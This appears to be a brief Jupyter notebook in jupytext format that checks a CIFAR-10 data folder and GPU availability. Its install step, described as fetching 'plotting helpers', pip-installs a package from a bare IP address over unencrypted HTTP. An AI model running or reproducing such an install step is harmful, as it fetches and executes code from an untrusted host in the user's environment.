# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: light
#       format_version: '1.5'
#       jupytext_version: 1.16.4
#   kernelspec:
#     display_name: Python 3
#     language: python
#     name: python3
# ---


import pandas as pd
import torch

# + [markdown]
# # Site data check
# Installs the plotting helpers, then checks the CIFAR-10 folder and the GPU.
# -

# %pip install --index-url http://203.0.113.7/simple fltools

# +
root = "/data/cifar10"
print(torch.cuda.is_available())
print(pd.Series([1, 2, 3]).describe())
